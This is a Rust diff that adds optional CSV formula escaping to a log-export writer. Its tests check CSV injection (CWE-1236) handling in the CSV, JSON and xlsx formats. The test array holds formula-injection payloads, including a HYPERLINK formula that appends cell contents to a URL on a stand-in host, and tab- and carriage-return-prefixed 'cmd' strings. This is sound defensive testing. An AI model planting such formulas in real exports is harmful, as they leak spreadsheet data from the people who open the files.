@@ -49,6 +49,10 @@ pub struct Contents<'a> {
     pub language: Language,
     /// What the rows are.
     pub rows: RowKind,
+    /// csv only: neutralize text cells a spreadsheet would run as a formula (see
+    /// [`csv::escape_formula`]). xlsx writes every text as a string cell and json as a JSON
+    /// string, so neither runs anything and both keep the text as it is.
+    pub escape_formulas: bool,
 }
 
 /// What the rows of an export file are, for the formats that lay the two out differently.
@@ -225,5 +229,101 @@ mod tests {
     #[test]
     fn no_columns_is_an_error() {
         assert!(matches!(owned_columns(&[]), Err(OutputError::NoColumns)));
+    }
+}
+
+#[cfg(test)]
+mod formula_tests {
+    //! CSV injection (CWE-1236): text a request put in the logs, written into each format.
+
+    use calamine::{open_workbook, Data, Reader, Xlsx};
+
+    use super::test_support::TempPath;
+    use super::*;
+
+    /// Texts that run as formulas when a spreadsheet opens them as written, and the lone `-` of
+    /// an absent value, which does not.
+    const HOSTILE: [&str; 7] = [
+        "=HYPERLINK(\"http://x/?\"&A1,\"x\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\tcmd",
+        "\rcmd",
+        "-",
+    ];
+
+    fn write(format: ExportFormat, escape_formulas: bool) -> TempPath {
+        let tmp = TempPath::new(format.extension());
+        let columns = [Column::Ua, Column::Referer];
+        let mut writer = writer_for(
+            format,
+            Target::File(tmp.path()),
+            Contents {
+                columns: &columns,
+                language: Language::En,
+                rows: RowKind::LogLines,
+                escape_formulas,
+            },
+        )
+        .expect("writer");
+        for text in HOSTILE {
+            writer
+                .write_row(&[Cell::Text(text.into()), Cell::Text("ok".into())])
+                .expect("row");
+        }
+        writer.finish().expect("finish");
+        tmp
+    }
+
+    #[test]
+    fn csv_neutralizes_formula_like_cells_unless_turned_off() {
+        let escaped = ::csv::ReaderBuilder::new()
+            .from_path(write(ExportFormat::Csv, true).path())
+            .expect("read")
+            .records()
+            .map(|r| r.expect("record")[0].to_owned())
+            .collect::<Vec<_>>();
+        let mut expected: Vec<String> = HOSTILE[..6].iter().map(|t| format!("'{t}")).collect();
+        expected.push("-".into());
+        assert_eq!(escaped, expected);
+        let raw = ::csv::ReaderBuilder::new()
+            .from_path(write(ExportFormat::Csv, false).path())
+            .expect("read")
+            .records()
+            .map(|r| r.expect("record")[0].to_owned())
+            .collect::<Vec<_>>();
+        assert_eq!(raw, HOSTILE.map(String::from).to_vec());
+    }
+
+    #[test]
+    fn json_and_xlsx_keep_the_text_as_data() {
+        let json = std::fs::read_to_string(write(ExportFormat::Json, true).path()).expect("read");
+        let uas: Vec<String> = json
+            .lines()
+            .map(|line| {
+                let v: serde_json::Value = serde_json::from_str(line).expect("json line");
+                v["ua"].as_str().expect("ua").to_owned()
+            })
+            .collect();
+        assert_eq!(uas, HOSTILE.map(String::from).to_vec());
+
+        let tmp = write(ExportFormat::Xlsx, true);
+        let mut book: Xlsx<_> = open_workbook(tmp.path()).expect("open");
+        let sheet = book.sheet_names()[0].clone();
+        let range = book.worksheet_range(&sheet).expect("sheet");
+        let cells: Vec<Data> = (1..=HOSTILE.len())
+            .map(|row| range.get((row, 0)).cloned().expect("cell"))
+            .collect();
+        assert_eq!(
+            cells,
+            HOSTILE.map(|t| Data::String(t.to_owned())).to_vec(),
+            "string cells, as written"
+        );
+        let formulas = book.worksheet_formula(&sheet).expect("formulas");
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "no cell holds a formula"
+        );
     }
 }
